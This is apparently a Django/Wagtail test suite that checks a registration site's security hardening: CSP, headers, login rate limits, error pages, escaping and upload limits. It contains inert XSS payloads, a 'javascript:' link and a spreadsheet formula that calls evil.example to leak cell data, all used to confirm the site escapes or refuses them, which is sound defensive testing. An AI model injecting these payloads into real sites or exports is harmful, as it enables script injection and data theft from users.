"""Hardening: CSP per area, security headers, admin sign-in limits, friendly errors,
inert XSS payloads everywhere registrant data shows, and upload limits."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.auth import get_user_model
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import OperationalError
from django.test import Client
from openpyxl import load_workbook
from PIL import Image as PILImage
from wagtail.images.models import Image

from series.http.security import csp_hash
from series.models import Registration, RegistrationQuestion

from ..factories import SessionSpeakerFactory, SoTalkSessionPageFactory, SpeakerFactory
from ..fake_esp import FakePostmark

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
JSONLD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.S)
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>'
XSS_EMAIL = '"<svg/onload=alert(1)>"@example.no'


def directives(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    parts = (part.strip().split() for part in header.split(";") if part.strip())
    return {part[0]: part[1:] for part in parts}


@pytest.fixture
def session(series_page):
    session = SoTalkSessionPageFactory(parent=series_page, capacity=5)
    RegistrationQuestion.objects.create(
        page=session, key="diet", label="Allergier", required=False
    )
    return session


@pytest.fixture
def staff(client):
    user = get_user_model().objects.create_superuser(
        "admin", "admin@example.no", "a long admin passphrase"
    )
    client.force_login(user)
    return client


# Content-Security-Policy


def test_public_pages_allow_no_inline_script_except_the_json_ld_by_hash(
    client, upcoming_session
):
    response = client.get(upcoming_session.url)
    html = response.content.decode()
    policy = directives(response)
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-eval'" not in policy["script-src"]
    assert not any(source.startswith("'nonce-") for source in policy["script-src"])
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    (jsonld,) = JSONLD.findall(html)
    assert json.loads(jsonld)["@type"] == "Event"
    inline = INLINE_SCRIPT.findall(html)
    assert inline, "the JSON-LD is an inline script"
    for content in inline:
        assert csp_hash(content) in policy["script-src"]


def test_the_hash_follows_the_content(client, upcoming_session):
    first = directives(client.get(upcoming_session.url))["script-src"]
    upcoming_session.title = "A new title"
    upcoming_session.save_revision().publish()
    second = directives(client.get(upcoming_session.url))["script-src"]
    assert first != second
    assert [s for s in first if "sha256" in s] != [s for s in second if "sha256" in s]


def test_a_cached_page_keeps_the_policy_that_matches_its_body(
    client, upcoming_session, settings
):
    """The contract with the page cache: it sits above the CSP middleware and
    stores the headers with the body, so a hit carries the same hashes."""
    cache_middleware = "series.http.page_cache.PageCacheMiddleware"
    csp_middleware = "series.http.security.ContentSecurityPolicyMiddleware"
    middleware = list(settings.MIDDLEWARE)
    if cache_middleware in middleware:
        assert middleware.index(cache_middleware) < middleware.index(csp_middleware)
    else:
        pytest.importorskip("series.http.page_cache")
        middleware.insert(middleware.index(csp_middleware), cache_middleware)
        settings.MIDDLEWARE = middleware
    settings.SERIES_PAGE_CACHE_SECONDS = 30
    client.cookies.clear()
    first = client.get(upcoming_session.url)
    second = client.get(upcoming_session.url)
    assert second.get("X-Page-Cache") == "hit"
    assert second["Content-Security-Policy"] == first["Content-Security-Policy"]
    for content in INLINE_SCRIPT.findall(second.content.decode()):
        assert csp_hash(content) in directives(second)["script-src"]


def test_the_admin_has_its_own_looser_policy(client, staff):
    for url in ("/admin/login/", "/admin/", "/admin/registrations/"):
        policy = directives(
            staff.get(url) if url != "/admin/login/" else client.get(url)
        )
        assert "'unsafe-inline'" in policy["script-src"], url
        assert policy["frame-ancestors"] == ["'self'"], url  # live preview
        assert policy["object-src"] == ["'none'"], url


def test_error_and_registration_pages_carry_the_strict_policy(client, session):
    for url in (
        f"/nb/registrations/{'x' * 20}/cancel/",
        "/nb/registrations/find/",
    ):
        policy = directives(client.get(url))
        assert policy["script-src"] == ["'self'"], url


# Headers and settings


def test_security_headers_on_public_pages(client, upcoming_session):
    response = client.get(upcoming_session.url)
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"]
    assert "camera=()" in response["Permissions-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"]
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"


def production_environment(**extra) -> dict[str, str]:
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("SECURE_", "DJANGO_"))
    }
    env.update(
        DJANGO_SETTINGS_MODULE="site_project.settings.production",
        SECRET_KEY="a-production-like-secret-key-" + "x" * 40,
        ALLOWED_HOSTS="sotalk.example.no",
        ANYMAIL_WEBHOOK_SECRET="esp:a-long-webhook-password",
    )
    env.update(extra)
    return {key: value for key, value in env.items() if value is not None}


def test_check_deploy_is_clean_with_production_settings():
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=production_environment(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_check_deploy_fails_without_a_webhook_secret():
    result = subprocess.run(  # noqa: S603 (our own manage.py)
        [sys.executable, "manage.py", "check", "--deploy"],
        cwd=ROOT,
        env=production_environment(ANYMAIL_WEBHOOK_SECRET=None),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode != 0
    assert "ANYMAIL_WEBHOOK_SECRET" in result.stdout + result.stderr


def test_production_cookies_hsts_and_csp():
    script = (
        "import json, django; django.setup(); from django.conf import settings as s; "
        "print(json.dumps({n: getattr(s, n) for n in ("
        "'SECURE_HSTS_SECONDS', 'SECURE_SSL_REDIRECT', 'SESSION_COOKIE_SECURE', "
        "'SESSION_COOKIE_HTTPONLY', 'CSRF_COOKIE_SECURE', 'CSRF_COOKIE_HTTPONLY', "
        "'SECURE_CONTENT_TYPE_NOSNIFF', 'SECURE_REFERRER_POLICY', 'MIDDLEWARE', "
        "'CONTENT_SECURITY_POLICY', 'DATA_UPLOAD_MAX_MEMORY_SIZE', "
        "'WAGTAILIMAGES_MAX_UPLOAD_SIZE')}, default=str))"
    )
    result = subprocess.run(  # noqa: S603 (our own script)
        [sys.executable, "-c", script],
        cwd=ROOT,
        env=production_environment(ANYMAIL_REQUESTS_TIMEOUT="7"),
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    values = json.loads(result.stdout)
    assert values["SECURE_HSTS_SECONDS"] >= 31536000
    assert values["SECURE_SSL_REDIRECT"] is True
    for name in (
        "SESSION_COOKIE_SECURE",
        "SESSION_COOKIE_HTTPONLY",
        "CSRF_COOKIE_SECURE",
        "CSRF_COOKIE_HTTPONLY",
        "SECURE_CONTENT_TYPE_NOSNIFF",
    ):
        assert values[name] is True, name
    assert values["SECURE_REFERRER_POLICY"] == "strict-origin-when-cross-origin"
    assert (
        "series.http.security.ContentSecurityPolicyMiddleware" in values["MIDDLEWARE"]
    )
    csp = values["CONTENT_SECURITY_POLICY"]["DIRECTIVES"]
    assert csp["upgrade-insecure-requests"] is True
    assert values["DATA_UPLOAD_MAX_MEMORY_SIZE"] <= 5 * 1024 * 1024
    assert values["WAGTAILIMAGES_MAX_UPLOAD_SIZE"] <= 10 * 1024 * 1024


# Admin sign-in


def test_admin_sign_in_is_rate_limited_per_address(client, settings):
    settings.SERIES_ADMIN_LOGIN_RATE_LIMIT = "5/m"
    user = get_user_model().objects.create_superuser(
        "editor", "editor@example.no", "the right passphrase"
    )
    wrong = {"username": user.username, "password": "guess"}
    for _ in range(5):
        assert client.post("/admin/login/", wrong).status_code == 200
    refused = client.post("/admin/login/", wrong)
    assert refused.status_code == 429
    assert "Retry-After" in refused
    assert "Traceback" not in refused.content.decode()
    # Even the right password waits: the form is not checked while limited.
    right = {"username": user.username, "password": "the right passphrase"}
    assert client.post("/admin/login/", right).status_code == 429
    other_address = Client(REMOTE_ADDR="192.0.2.7")
    assert other_address.post("/admin/login/", right).status_code == 302


def test_successful_sign_ins_do_not_count(client, settings):
    settings.SERIES_ADMIN_LOGIN_RATE_LIMIT = "2/m"
    get_user_model().objects.create_superuser("editor", "e@example.no", "right one")
    for _ in range(4):
        response = client.post(
            "/admin/login/", {"username": "editor", "password": "right one"}
        )
        assert response.status_code == 302
        client.logout()


# Friendly errors


def test_database_away_is_a_friendly_503_page_and_problem_json(session, monkeypatch):
    from series.domain import registration

    def database_gone(*args, **kwargs):
        raise OperationalError("server closed the connection unexpectedly")

    # Both the page's form and the API register through this step.
    monkeypatch.setattr(registration, "session_lock", database_gone)
    client = Client(raise_request_exception=False)
    page = client.post(
        f"/nb/registrations/sessions/{session.pk}/",
        {"name": "Kari", "email": "kari@example.no", "consent": "on"},
    )
    assert page.status_code == 503
    assert page["Content-Type"].startswith("text/html")
    assert page["Retry-After"]
    assert "no-store" in page["Cache-Control"]
    body = page.content.decode()
    assert "<h1>" in body and "Traceback" not in body and "OperationalError" not in body
    assert 'lang="nb"' in body

    api = client.post(
        f"/api/v3/series/sessions/{session.pk}/registrations/",
        json.dumps({"name": "Kari", "email": "kari@example.no", "consent": True}),
        content_type="application/json",
    )
    assert api.status_code == 503
    assert api["Content-Type"] == "application/problem+json"
    problem = api.json()
    assert problem["type"] == "service-unavailable" and problem["status"] == 503
    assert "OperationalError" not in api.content.decode()


def test_other_errors_are_a_plain_500_without_traceback(session, monkeypatch):
    from series.domain import registration

    def broken(*args, **kwargs):
        raise RuntimeError("secret internals")

    monkeypatch.setattr(registration, "session_lock", broken)
    client = Client(raise_request_exception=False)
    page = client.post(
        f"/nb/registrations/sessions/{session.pk}/",
        {"name": "Kari", "email": "kari@example.no", "consent": "on"},
    )
    assert page.status_code == 500
    assert "secret internals" not in page.content.decode()
    assert "Traceback" not in page.content.decode()


# XSS payloads stay inert


def register_payloads(client, session) -> Registration:
    response = client.post(
        f"/nb/registrations/sessions/{session.pk}/",
        {
            "name": XSS,
            "email": XSS_EMAIL,
            "organisation": XSS,
            "consent": "on",
            "q_diet": XSS,
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    return Registration.objects.get(session=session)


def assert_inert(html: str, where: str) -> None:
    assert "<script>alert" not in html, where
    assert "<img src=x onerror" not in html, where
    assert "<svg/onload" not in html, where


def test_registrant_payloads_are_inert_on_the_site(client, session):
    registration = register_payloads(client, session)
    assert registration.name == XSS  # stored as typed, escaped when shown

    token = registration.token
    for url in (f"/nb/registrations/{token}/", f"/nb/registrations/{token}/cancel/"):
        assert_inert(client.get(url).content.decode(), url)
    detail = client.get(f"/nb/registrations/{token}/").content.decode()
    assert "&lt;script&gt;alert(" in detail  # the name, shown as text


def test_registrant_payloads_are_inert_in_the_admin(client, staff, session):
    registration = register_payloads(Client(), session)
    pages = {
        "list": staff.get("/admin/registrations/"),
        "inspect": staff.get(f"/admin/registrations/inspect/{registration.pk}/"),
        "edit": staff.get(f"/admin/registrations/edit/{registration.pk}/"),
        "check-in": staff.get(f"/admin/registrations/check-in/{session.pk}/"),
        "person": staff.post(
            "/admin/registrations/person/", {"email": XSS_EMAIL, "action": "show"}
        ),
    }
    for where, response in pages.items():
        assert response.status_code == 200, where
        html = response.content.decode()
        assert_inert(html, where)
    assert "&lt;script&gt;" in pages["inspect"].content.decode()
    assert "&lt;script&gt;" in pages["person"].content.decode()


def test_exports_neutralise_formulas_and_keep_payloads_as_text(staff, session):
    from series.domain.registration import Registrant, registration_create

    registration_create(
        session=session,
        registrant=Registrant(
            name='=HYPERLINK("http://evil.example/?"&A1,"click")',
            email="formula@example.no",
            organisation="+1+1",
            answers={"diet": "@SUM(1+1)"},
            language="nb",
            consent_version="nb-test",
        ),
    )
    registration_create(
        session=session,
        registrant=Registrant(
            name="-2+3",
            email="minus@example.no",
            organisation=XSS,
            language="nb",
            consent_version="nb-test",
        ),
    )
    export = staff.get("/admin/registrations/?export=csv")
    csv_text = b"".join(export.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
    assert "'=HYPERLINK" in csv_text and "'+1+1" in csv_text and "'@SUM" in csv_text
    assert "'-2+3" in csv_text
    xlsx = staff.get("/admin/registrations/?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    values = [cell.value for row in sheet.iter_rows() for cell in row]
    assert not [
        v for v in values if isinstance(v, str) and v[:1] in ("=", "+", "-", "@")
    ]
    assert XSS in values  # plain text in a cell, never markup


def test_registrant_payloads_are_inert_in_e_mails(
    client, session, run_worker, settings
):
    """Through anymail's real Postmark backend and the fake ESP."""
    with FakePostmark() as esp:
        settings.EMAIL_BACKEND = "anymail.backends.postmark.EmailBackend"
        settings.ANYMAIL = {**esp.anymail_settings(), "REQUESTS_TIMEOUT": 5}
        register_payloads(client, session)
        run_worker()
        (message,) = esp.accepted
    assert message.to == XSS_EMAIL
    assert_inert(message.html, "e-mail HTML")
    assert "&lt;script&gt;" in message.html
    assert not mail.outbox  # it went through the real backend


def test_speaker_payloads_are_inert_on_the_session_page_and_in_json_ld(client, session):
    speaker = SpeakerFactory(
        name=f"</script>{XSS}",
        role=XSS,
        organisation=XSS,
        # The bio editor stores HTML; what an editor types as text is escaped.
        bio="<p>&lt;script&gt;alert(1)&lt;/script&gt; and <b>bold</b></p>",
    )
    SessionSpeakerFactory(page=session, speaker=speaker)
    session.save_revision().publish()
    response = client.get(session.url)
    html = response.content.decode()
    assert_inert(html, "session page")
    assert "</script><script>" not in html
    (jsonld,) = JSONLD.findall(html)
    assert "\\u003c/script\\u003e" in jsonld.lower()  # escaped in the data block
    for content in INLINE_SCRIPT.findall(html):
        assert csp_hash(content) in directives(response)["script-src"]


def test_bio_html_from_the_rich_text_editor_is_whitelisted():
    """The admin's Draftail editor converts to HTML through a whitelist."""
    from wagtail.admin.rich_text.converters.contentstate import ContentstateConverter

    converter = ContentstateConverter(features=["bold", "italic", "link"])
    contentstate = {
        "blocks": [
            {
                "key": "a",
                "type": "unstyled",
                "text": XSS,
                "depth": 0,
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": 0, "length": 5, "key": 0}],
            }
        ],
        "entityMap": {
            "0": {
                "type": "LINK",
                "mutability": "MUTABLE",
                "data": {"url": "javascript:alert(1)"},
            }
        },
    }
    html = converter.to_database_format(json.dumps(contentstate))
    assert_inert(html, "bio")
    assert "javascript:" not in html


# Uploads


def png_bytes(size=(20, 20)) -> bytes:
    buffer = io.BytesIO()
    PILImage.new("RGB", size, "teal").save(buffer, "PNG")
    return buffer.getvalue()


def upload_image(staff, name: str, content: bytes, content_type="image/png"):
    return staff.post(
        "/admin/images/add/",
        {
            "title": name,
            "file": SimpleUploadedFile(name, content, content_type=content_type),
            "collection": 1,
        },
    )


def test_image_upload_limits_size_and_type_in_the_admin(staff, settings):
    assert django_settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE <= 10 * 1024 * 1024
    assert "svg" not in django_settings.WAGTAILIMAGES_EXTENSIONS
    before = Image.objects.count()
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 2_000
    too_big = upload_image(staff, "big.png", png_bytes((400, 400)) + b"\0" * 3_000)
    assert too_big.status_code == 200  # the form again, with the error
    assert "big.png" not in [image.title for image in Image.objects.all()]
    settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE = 10 * 1024 * 1024
    for name, content, content_type in (
        ("page.html", b"<html><script>alert(1)</script></html>", "text/html"),
        ("fake.png", b"<html><script>alert(1)</script></html>", "image/png"),
        (
            "vector.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "image/svg+xml",
        ),
        ("tool.exe", b"MZ\x90\x00" * 10, "application/octet-stream"),
    ):
        response = upload_image(staff, name, content, content_type)
        assert response.status_code == 200, name
        assert "error" in response.content.decode().lower(), name
    assert Image.objects.count() == before
    ok = upload_image(staff, "ok.png", png_bytes())
    assert ok.status_code == 302
    assert Image.objects.count() == before + 1
    Image.objects.get(title="ok.png").file.delete(save=False)


def test_document_upload_refuses_types_not_on_the_list(staff):
    from wagtail.documents.models import Document

    response = staff.post(
        "/admin/documents/add/",
        {
            "title": "evil",
            "file": SimpleUploadedFile("evil.html", b"<script>alert(1)</script>"),
            "collection": 1,
        },
    )
    assert response.status_code == 200
    assert not Document.objects.filter(title="evil").exists()


def test_oversized_form_body_is_refused_without_a_5xx(client, session):
    response = client.post(
        f"/nb/registrations/sessions/{session.pk}/",
        {"name": "x" * (django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)},
    )
    assert response.status_code == 400
    assert not Registration.objects.exists()


# The policies in a real browser

CHROMIUM = Path("/usr/bin/chromium")
ADMIN_PASSWORD = "a long admin passphrase"  # noqa: S105


def browse(base_url: str, public: list[str], admin: list[str], edit: str) -> list[str]:
    """Visit pages in Chromium; the CSP violations it reported. Runs in a thread of
    its own, as the browser tests keep Playwright's sync API busy in the main one."""
    from playwright.sync_api import sync_playwright

    from ..browser.conftest import CHROMIUM_ARGS

    violations: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS
        )
        page = browser.new_context(base_url=base_url).new_page()
        page.set_default_timeout(15_000)
        page.on(
            "console",
            lambda message: (
                violations.append(message.text)
                if "Content Security Policy" in message.text
                else None
            ),
        )
        for url in public:
            page.goto(url)
            assert page.locator("h1").first.is_visible(), url
        page.goto("/admin/login/")
        page.locator("#id_username").fill("admin")
        page.locator("#id_password").fill(ADMIN_PASSWORD)
        page.locator("form button[type=submit]").click()
        page.wait_for_url("**/admin/")
        for url in admin:
            page.goto(url)
            page.wait_for_load_state("networkidle")
            assert page.locator("main, #main, .content").first.is_visible(), url
        # The editor's scripts work: edit a title and save a draft.
        page.goto(edit)
        page.locator("#id_title").fill("Edited under the admin policy")
        page.get_by_role("button", name=re.compile("Save draft", re.I)).click()
        page.wait_for_load_state("networkidle")
        assert "Edited under the admin policy" in page.content()
        browser.close()
    return violations


@pytest.mark.browser
def test_no_csp_violations_on_public_pages_or_in_the_admin(
    transactional_db, live_server
):
    from django.contrib.contenttypes.models import ContentType

    from series.models import SoTalkSessionPage

    from ..browser.conftest import restore_wagtail_roots

    if not CHROMIUM.exists():
        pytest.skip("needs Debian's Chromium at /usr/bin/chromium")
    ContentType.objects.clear_cache()  # a flush before may have renumbered them
    restore_wagtail_roots()
    call_command("seed_demo", verbosity=0)
    get_user_model().objects.create_superuser("admin", "a@example.no", ADMIN_PASSWORD)
    session = SoTalkSessionPage.objects.get(
        slug="financing-collaboration", locale__language_code="nb"
    )
    series = session.get_parent()
    with ThreadPoolExecutor(1) as thread:
        violations = thread.submit(
            browse,
            live_server.url,
            [session.url, series.url, "/en/", "/nb/registrations/find/"],
            [
                "/admin/",
                f"/admin/pages/{session.pk}/edit/",
                f"/admin/pages/{series.pk}/",
                "/admin/registrations/",
                "/admin/images/add/",
                "/admin/snippets/series/speaker/",
            ],
            f"/admin/pages/{session.pk}/edit/",
        ).result(timeout=180)
    assert not violations, "\n".join(sorted(set(violations)))
